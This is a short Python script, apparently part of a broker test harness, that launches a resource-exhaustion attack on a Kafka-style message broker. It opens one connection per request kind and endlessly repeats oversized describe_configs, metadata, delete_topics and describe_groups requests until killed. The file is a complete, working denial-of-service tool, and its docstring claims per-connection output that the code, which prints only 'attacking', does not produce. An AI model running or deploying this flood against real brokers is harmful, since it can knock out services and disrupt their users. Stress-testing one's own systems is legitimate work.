"""A client that repeats a broker's most expensive requests, each on a connection of its own: ``python -m
cluster.attacker HOST PORT TOPIC``. It runs until it is killed. It prints a line when each connection has had an answer
or was closed."""

from __future__ import annotations

import sys
import threading
from typing import Any

from parity.raw_client import ConnectionClosedError, RawClient

TOPIC_RESOURCE, BROKER_RESOURCE = 2, 4


def requests(topic: str) -> list[tuple[str, int, dict[str, Any]]]:
    described = {"resource_type": TOPIC_RESOURCE, "resource_name": topic, "configuration_keys": None}
    broker = {"resource_type": BROKER_RESOURCE, "resource_name": "", "configuration_keys": None}
    unknown = [f"{number:0>200}" for number in range(5_000)]
    return [
        ("describe_configs", 4, {"resources": [described] * 5_000}),
        ("describe_configs", 1, {"resources": [broker] * 1_000}),
        ("metadata", 12, {"topics": [{"name": topic}] * 20_000}),
        ("delete_topics", 5, {"topic_names": unknown, "timeout_ms": 5_000}),
        ("describe_groups", 5, {"groups": ["group"] * 20_000}),
    ]


def send(host: str, port: int, asked: tuple[str, int, dict[str, Any]], begun: threading.Barrier) -> None:
    is_first = True
    while True:
        client = RawClient(host, port)
        try:
            while True:
                client.ask(*asked)
                if is_first:
                    begun.wait()
                    is_first = False
        except (OSError, ConnectionClosedError):  # the broker refuses the request, or answers too late
            if is_first:
                begun.wait()
                is_first = False
        finally:
            client.close()


def main() -> None:
    host, port, topic = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    kinds = requests(topic)
    begun = threading.Barrier(len(kinds) + 1)
    for asked in kinds:
        threading.Thread(target=send, args=(host, port, asked, begun), daemon=True).start()
    begun.wait()
    print("attacking", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main()
